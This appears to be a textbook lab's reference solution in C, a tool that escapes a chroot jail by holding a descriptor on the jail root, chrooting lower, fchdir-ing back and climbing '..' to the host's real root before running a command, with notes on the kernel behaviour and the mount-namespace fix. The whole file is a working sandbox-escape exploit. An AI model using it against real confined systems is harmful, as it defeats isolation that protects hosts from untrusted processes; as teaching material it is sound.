/*
 * fchdir-escape: a second way out of a chroot jail, for chapter 1's lab (exercise 5, reference
 * solution).
 *
 *   fchdir-escape COMMAND [ARG...]   breaks out, then runs COMMAND from the host's real root
 *
 * jail-escape.c has to create a directory to chroot into, so a read-only jail stops it. This one
 * creates nothing. It relies on two facts about the kernel:
 *
 *  - chroot(2) changes what "/" means for later path lookups, and nothing else: descriptors that
 *    are already open keep pointing where they pointed. An open descriptor on a directory is a
 *    handle on that directory, wherever the root moves afterwards.
 *  - ".." stops climbing at the process's root only when the climb passes *through* that root.
 *    A current directory outside the root never meets it on the way up to the real "/".
 *
 * So: open the jail's root, chroot into any directory below it (the jail's root is now outside
 * ours), fchdir(2) back to the jail's root through the descriptor, climb, and chroot(".") there.
 * Any process with CAP_SYS_CHROOT can do it; chapter 2 closes the hole with a mount namespace and
 * pivot_root(2), where the root of the container is the root of its whole mount tree, so there is
 * no "above" to climb to. Build it statically, since the jail has no C library:
 *
 *   gcc -static -o fchdir-escape fchdir-escape.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* Any directory below "/" will do as the new root; return the first one there is. */
static const char *some_subdirectory(void) {
    static char path[300];
    DIR *root = opendir("/");
    if (root == NULL) {
        return NULL;
    }
    struct dirent *e;
    while ((e = readdir(root)) != NULL) {
        if (e->d_type == DT_DIR && strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) {
            snprintf(path, sizeof path, "/%s", e->d_name);
            closedir(root);
            return path;
        }
    }
    closedir(root);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: fchdir-escape COMMAND [ARG...]\n");
        return 2;
    }
    const char *below = some_subdirectory();
    if (below == NULL) {
        fprintf(stderr, "fchdir-escape: the jail has no directory below its root to chroot into\n");
        return 1;
    }
    // tag::escape[]
    int jail_root = open("/", O_RDONLY | O_DIRECTORY);   /* a handle on the jail's root */
    if (jail_root < 0) {
        perror("fchdir-escape: open /");
        return 1;
    }
    if (chroot(below) != 0) {              /* our root moves down; the handle does not move */
        perror("fchdir-escape: chroot");
        return 1;
    }
    if (fchdir(jail_root) != 0) {          /* back to the old root: now outside our own */
        perror("fchdir-escape: fchdir");
        return 1;
    }
    close(jail_root);
    for (int i = 0; i < 1024; i++) {       /* climb: our root is not on the way up */
        if (chdir("..") != 0) {
            perror("fchdir-escape: chdir ..");
            return 1;
        }
    }
    if (chroot(".") != 0) {                /* "." is now the real root: make it ours */
        perror("fchdir-escape: chroot .");
        return 1;
    }
    // end::escape[]
    execvp(argv[1], argv + 1);
    fprintf(stderr, "fchdir-escape: cannot run %s: ", argv[1]);
    perror(NULL);
    return 127;
}
